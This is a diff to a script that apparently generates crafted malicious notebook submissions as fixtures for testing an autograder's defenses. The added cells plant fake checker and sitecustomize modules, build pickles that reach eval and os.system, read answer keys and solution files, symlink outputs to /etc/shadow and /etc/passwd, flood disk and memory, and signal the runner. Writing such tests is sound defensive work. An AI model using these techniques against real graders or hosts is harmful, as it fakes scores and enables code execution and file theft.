@@ -7,6 +7,7 @@ and breaks it one way. The expected scores live in tests/grading/test_grading_ba
 """
 
 import copy
+import json
 import sys
 import tempfile
 from pathlib import Path
@@ -62,7 +63,7 @@ def enormous_output(nb):
 def read_hidden_tests(nb):
     nb.cells.insert(3, nbf.v4.new_code_cell('''import glob, os
 found = []
-patterns = ["/work/**/tests/*.py", "/work/**/*autograder*.zip", "/work/**/solutions/*.ipynb", "/work/**/build/assign/**",
+patterns = ["/work/**", "/work/**/tests/*.py", "/work/**/*autograder*.zip", "/work/**/solutions/*.ipynb", "/work/**/build/assign/**",
             "/vagrant/solutions/*.ipynb", "/vagrant/build/**", "/vagrant/tests/**", "/tmp/**", "/root/**", "/home/**",
             "../solutions/*.ipynb", "../build/**", "../tests/**", "../.git/**"]
 for pat in patterns:
@@ -70,7 +71,7 @@ for pat in patterns:
 secret = []
 for p in found:
     try:
-        if "hidden" in open(p, errors="replace").read().lower():
+        if "HIDDEN-FIXTURE-" + "SECRET" in open(p, errors="replace").read():  # the hidden tests' marker, split here
             secret.append(p)
     except OSError:
         pass
@@ -103,6 +104,146 @@ def memory_hog(nb):
     nb.cells.insert(3, nbf.v4.new_code_cell("hog = bytearray(16 * 1024 ** 3)"))
 
 
+# ---------------------------------------------------------------- crafted exploits (issue 13), one per class
+
+def replace_checker(nb):
+    """1. Plant modules where a checker run from the submission's folder would import them."""
+    nb.cells.insert(3, nbf.v4.new_code_cell(r"""import os, sys
+fake = ("import json, sys\ntests = sys.stdin.read()\n"
+        "json.dump({'questions': [{'question': q, 'score': 99.0, 'possible': 1.0, 'cases': [{'name': q, 'hidden': False, "
+        "'passed': False, 'message': 'LEAKED ' + tests}]} for q in ('q1', 'q2')], 'skipped': {}, 'note': ''}, sys.stdout)\n")
+planted = []
+for base in (os.getcwd(), "/tmp", os.path.expanduser("~")):
+    for rel in ("mptcplab/grading/checker.py", "mptcplab/__init__.py", "mptcplab/grading/__init__.py", "otter/__init__.py",
+                "sitecustomize.py", "usercustomize.py", "numpy.py", "json.py"):
+        path = os.path.join(base, rel)
+        try:
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            with open(path, "w") as f:
+                f.write(fake if rel.endswith("checker.py") else "import sys; print('PLANTED MODULE RAN', file=sys.stderr)\n")
+            planted.append(path)
+        except OSError:
+            pass
+print("planted", len(planted), "modules")"""))
+    answer(nb, "peak").source = "peak = 0"
+
+
+def pickle_walk(nb):
+    """2. Replace the runner's value dump with hand-made pickles that walk attributes to code."""
+    nb.cells.append(nbf.v4.new_code_cell(r"""import json, os
+def _walk(module, name, arg):  # protocol 4: PROTO, module, name, STACK_GLOBAL, arg, TUPLE1, REDUCE, STOP
+    s = lambda t: b"\x8c" + bytes([len(t)]) + t.encode()
+    return b"\x80\x04" + s(module) + s(name) + b"\x93" + s(arg) + b"\x85R."
+_vals = "/tmp/.mlab-values"
+def _mlab_dump():
+    index = {"values": {}, "funcs": {}, "refs": {"np": ["module", "numpy", ""], "pd": ["module", "pandas", ""]},
+             "oversized": {}, "unsaved": {}}
+    crafted = {"peak": _walk("pandas.core.common", "builtins.eval", "__import__('os').system('touch /tmp/PWNED') or 40.0"),
+               "walk2": _walk("numpy", "core.multiarray.os.system", "touch /tmp/PWNED2"),
+               "walk3": _walk("plotly.graph_objs", "Figure.__init__.__globals__", "x"),
+               "walk4": _walk("builtins", "eval", "40.0"),
+               "per_kib": __import__("pickle").dumps(per_kib, protocol=4)}
+    for i, (k, v) in enumerate(crafted.items()):
+        p = os.path.join(_vals, f"c{i}.pkl")
+        open(p, "wb").write(v)
+        index["values"][k] = p
+    json.dump(index, open(os.path.join(_vals, "index.json"), "w"))"""))
+
+
+def answer_key(nb):
+    """3. Reach the kit's answer keys: call them, read their source, their bytecode, the answer columns."""
+    nb.cells.insert(3, nbf.v4.new_code_cell(r"""import glob, inspect, os, importlib.util
+from mptcplab import models
+from mptcplab.labs import lab3_notebook as nb3
+from mptcplab.labs import lab3_analysis as la3
+for f in (lambda: models.parallel_per_flow(2, 0.01, 0.1, 0.3), lambda: models.per_flow_terms(2, 0.01, 0.1, 0.3),
+          lambda: models.parallel_cumulative(2, 0.01, 0.02, 0.1, 0.3), lambda: nb3.model1_reference(),
+          lambda: nb3.loss_events_reference()):
+    try:
+        print("ANSWER KEY GAVE", f())
+    except Exception as exc:
+        print("refused:", type(exc).__name__)
+src = open(models.__file__).read() + inspect.getsource(models)
+print("formula visible:", "24 * n * n" in src)
+pyc = glob.glob(os.path.join(os.path.dirname(models.__file__), "__pycache__", "models*.pyc"))
+print("bytecode files:", len(pyc))
+import pandas as _pd
+from mptcplab.lab import REPO_ROOT
+cols = list(_pd.read_csv(REPO_ROOT / "solutions" / "results" / "lab3" / "runs.csv").columns)
+print("answer columns:", [c for c in cols if c in ("model1", "model2", "err_model1", "err_model2")])"""))
+
+
+def tree_memory(nb):
+    """4a. Five children of 700 MB each: fine per process, too much together."""
+    nb.cells.insert(3, nbf.v4.new_code_cell(r"""import subprocess, sys
+code = "import time; b = bytearray(700 * 1024 * 1024); b[::4096] = b'x' * len(b[::4096]); time.sleep(20)"
+kids = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(5)]
+print("exit codes:", [k.wait() for k in kids])"""))
+
+
+def disk_flood(nb):
+    """4b. Write 5 GiB into the copy's folder, /tmp and /dev/shm, and 6 GB to fds 1 and 2."""
+    nb.cells.insert(3, nbf.v4.new_code_cell(r"""import os
+wrote = 0
+for d in (".", "/tmp", "/dev/shm"):
+    for i in range(80):
+        try:
+            with open(os.path.join(d, f"fill{i}.bin"), "wb") as f:
+                f.write(b"\1" * ((64 << 20) - 1))
+            wrote += (64 << 20) - 1
+        except OSError:
+            break
+print("wrote MiB:", wrote >> 20)"""))
+    nb.cells.insert(4, nbf.v4.new_code_cell(r"""for d in (".", "/tmp", "/dev/shm"):  # a full /tmp would leave no room to save its own values
+    for i in range(80):
+        if os.path.exists(os.path.join(d, f"fill{i}.bin")):
+            os.remove(os.path.join(d, f"fill{i}.bin"))"""))
+    nb.cells.insert(5, nbf.v4.new_code_cell(r"""chunk = b"E" * (1 << 20)
+for _ in range(3000):  # 3 GB on each of the OS-level stdout and stderr
+    os.write(1, chunk)
+    os.write(2, chunk)"""))
+
+
+def big_global(nb):
+    """5. A correct notebook with one 72 MB array."""
+    nb.cells.insert(3, nbf.v4.new_code_cell("big = np.ones(9_000_000)  # 72 MB"))
+
+
+def symlink_out(nb):
+    """6. Links where the runner keeps values and where older graders kept their output."""
+    nb.cells.append(nbf.v4.new_code_cell(r"""import os
+for link, target in ((".mlab-out", "/root"), ("executed.ipynb", "/etc/shadow"), ("/tmp/.mlab-values/index.json", "/etc/passwd")):
+    try:
+        os.makedirs(os.path.dirname(link) or ".", exist_ok=True)
+        if os.path.lexists(link):
+            os.unlink(link)
+        os.symlink(target, link)
+    except OSError as exc:
+        print("no link", link, type(exc).__name__)
+_orig = _mlab_dump
+def _mlab_dump():
+    import json
+    _orig()
+    p = json.load(open("/tmp/.mlab-values/index.json"))["values"]["peak"]
+    os.unlink(p)
+    os.symlink("/etc/passwd", p)"""))
+
+
+def sigint_runner(nb):
+    """7a. SIGINT the runner, then a cell that ignores SIGINT and never ends: values computed before survive."""
+    nb.cells.insert(len(nb.cells), nbf.v4.new_code_cell(r"""import os, signal
+os.kill(os.getppid(), signal.SIGINT)
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass"""))
+
+
+def malformed_cell(nb):
+    """7b. A cell whose source is a number, not text."""
+    nb.cells.insert(3, nbf.v4.new_code_cell("placeholder"))
+    nb.cells[3]["source"] = 12345
+
+
 NOTES = {
     syntax_error: "a syntax error in the q1 answer; q2 is right.",
     infinite_loop: "an endless loop in q1: that cell is stopped at the cell time limit, the rest still runs.",
@@ -112,6 +253,15 @@ NOTES = {
     read_hidden_tests: "hunts the filesystem for hidden tests and tries to rewrite them; q1 wrong.",
     network_access: "tries to reach the network, then answers correctly.",
     memory_hog: "allocates 16 GiB, then answers correctly.",
+    replace_checker: "plants checker.py, otter, numpy, sitecustomize modules where a checker might import them; q1 wrong.",
+    pickle_walk: "replaces the value dump with pickles that walk attributes to eval/os.system; answers q2 only.",
+    answer_key: "calls the kit's answer-key functions, reads their source and bytecode, looks for answer columns; answers correctly.",
+    tree_memory: "five 700 MB children at once, then answers correctly.",
+    disk_flood: "writes 5 GiB to its folder, /tmp and /dev/shm and 6 GB to fds 1/2, then answers correctly.",
+    big_global: "answers correctly and keeps a 72 MB array in a global.",
+    symlink_out: "replaces its output places and saved values with links to /root, /etc/shadow, /etc/passwd; answers q2 only.",
+    sigint_runner: "answers correctly, then SIGINTs the runner and loops forever ignoring SIGINT.",
+    malformed_cell: "answers correctly; one cell's source is a number.",
 }
 
 
@@ -121,8 +271,14 @@ def main() -> int:
         nb = copy.deepcopy(base)
         make(nb)
         nb.cells.insert(1, nbf.v4.new_markdown_cell(f"**Crafted bad submission (grader tests):** {note}"))
-        nbf.write(nb, HERE / f"{make.__name__}.ipynb")
+        (HERE / f"{make.__name__}.ipynb").write_text(json.dumps(nb, indent=1))  # no validation: some are malformed
     (HERE / "not_a_notebook.ipynb").write_text('{"cells": [ this is not json\n')
+    for name in ("dup a", "dup_a"):  # two names, one id
+        nbf.write(copy.deepcopy(base), HERE / f"{name}.ipynb")
+    with tempfile.TemporaryDirectory() as tmp:  # the handed-out notebook, unanswered
+        from mptcplab.grading import autograder
+
+        nbf.write(nbf.read(autograder.otter_assign(MASTER, Path(tmp) / "assign"), 4), HERE / "unfilled.ipynb")
     return 0
 
 
